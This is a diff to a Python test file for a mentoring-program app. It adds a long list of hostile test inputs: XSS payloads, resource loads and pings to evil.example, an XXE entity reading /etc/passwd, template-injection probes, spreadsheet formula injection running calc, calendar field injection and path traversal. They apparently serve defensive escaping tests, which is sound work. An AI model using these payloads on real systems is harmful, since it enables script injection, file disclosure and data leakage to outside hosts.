@@ -6,7 +6,7 @@ from dataclasses import replace
 from datetime import UTC, date, datetime
 from html.parser import HTMLParser
 
-from reverse_mentoring.data.records import Objective, Program, Session
+from reverse_mentoring.data.records import Link, Objective, Program, Session
 from support.people import DEFAULT_TOPICS, cohort, pair, person, program, senior
 from support.records import badge, change, kudos
 
@@ -61,6 +61,76 @@ HOSTILE = (
     "* " * 150,
     "_*" * 150,
     "`" * 299,
+    "<svg><script>fired(51)</script></svg>",
+    "<svg><animate onbegin=fired(52) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:fired(53)><text y=20>x</text></a></svg>",
+    "<svg><foreignObject><img src=x onerror=fired(54)></foreignObject></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=fired(55) />#x\"></svg>",
+    "<svg><style><img src=x onerror=fired(56)></style></svg>",
+    "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea><img src=x onerror=fired(57)>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=fired(58)>",
+    "<noscript><p title='</noscript><img src=x onerror=fired(59)>'>",
+    "<template><img src=x onerror=fired(60)></template><img src=x onerror=fired(60)>",
+    "<object data=https://evil.example/61></object>",
+    "<embed src=https://evil.example/62>",
+    "<video src=x onerror=fired(63)></video>",
+    "<video poster=https://evil.example/64.png></video>",
+    "<audio autoplay src=https://evil.example/65.mp3></audio>",
+    "<marquee onstart=fired(66)>x</marquee>",
+    "<input autofocus onfocus=fired(67)>",
+    "<style>@import 'https://evil.example/68.css';</style>",
+    "<b style='background: url(https://evil.example/69.png)'>x</b>",
+    "<style>@keyframes k { to { color: red } } b { animation: k 1s }</style><b onanimationstart=fired(70)>x</b>",
+    "<link rel=preload as=image href=https://evil.example/71.png>",
+    "<script src=https://evil.example/72.js></script>",
+    "<script type=module>import 'https://evil.example/73.js'; fired(73)</script>",
+    "<iframe src=javascript:parent.fired(74)></iframe>",
+    "<iframe src='data:text/html,<script>parent.fired(75)</script>'></iframe>",
+    "<img srcset='https://evil.example/76.png 2x'>",
+    "<body onload=fired(77) onpageshow=fired(77)>",
+    "<a href='jav&#x09;ascript:fired(78)'>x</a>",
+    "<a href=javascript:fired(79)>x</a>",
+    "<a href=# ping=https://evil.example/80>x</a>",
+    "<button onclick=fired(81) popovertarget=x>x</button><p id=x popover onbeforetoggle=fired(81)>x</p>",
+    "<a id=__config></a><form name=querySelector id=location><img name=body>",
+    "<![CDATA[<script>fired(83)</script>]]>",
+    "<?xml-stylesheet href='javascript:fired(84)'?><?php fired(84) ?>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "\ufe64script\ufe65fired(86)\ufe64/script\ufe65",
+    "\uff1cscript\uff1efired(87)\uff1c/script\uff1e",
+    "%3Cscript%3Efired(88)%3C/script%3E",
+    "\\u003cscript\\u003efired(89)\\x3c/script\\x3e",
+    "{{ config.__class__.__mro__ }} {{ 7*7 }} {% include '/etc/passwd' %} {#",
+    "#{7*7} <%= 7*7 %> {{constructor.constructor('fired(91)')()}}",
+    "';fired(92);//",
+    '\\";fired(93);//',
+    "`${fired(94)}`",
+    "jaVasCript:/*</title></style></textarea></noscript>-->\"'`<svg/onload=fired(95)>",
+    '=HYPERLINK("https://evil.example/96","x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
+    "x\nATTENDEE:mailto:canary@evil.example",
+    "x;VALUE=URI:https://evil.example/102,y\\nDTSTART:20200101T000000Z\\",
+    "\u00fc" * 60,
+    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 " * 5 + "!",
+    "\u2067\u202e\u2066 backwards",
+    "in\u200bvis\u200dib\ufeffle\u00ad",
+    "Z" + "\u0301\u0336" * 100,
+    "Donaudampfschifffahrt" * 10,
+    "\u6f22" * 60,
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
+    "\x00<script>fired(111)</script>",
+    "\x1b[31mred\x07",
+    "100%s %n %(org)s %(name)d {0} {name}",
+    "&nbsp;&#0;&#x110000;&#xD800;&lt;&lt &amp",
+    "../../../etc/passwd",
+    "__proto__",
+    "[[a](https://b.example)](javascript:fired(117))",
+    "![](data:image/svg+xml;base64,PHN2Zy8+)",
+    "[x]: data:text/html,x\n\n[y][x]",
+    "**_`[x](https://a.example)`_**",
 )
 """Each would call `fired`, reach another host, or break out of its place, if it were taken for markup."""
 
@@ -122,5 +192,7 @@ def program_of(text: str) -> Program:
         changes=(change(dan, mira, title=text, text=text),),
         badges=(replace(badge("prepared-mentor", "person"), name=text, description=text),),
     )
-    settings = replace(made.settings, name=text, about=text, mentor_name=text, mentee_name=text)
+    settings = replace(
+        made.settings, name=text, about=text, mentor_name=text, mentee_name=text, support=(Link(text, text),)
+    )  # fmt: skip
     return replace(made, settings=settings, orgs=tuple(replace(o, name=text, url=text) for o in made.orgs))
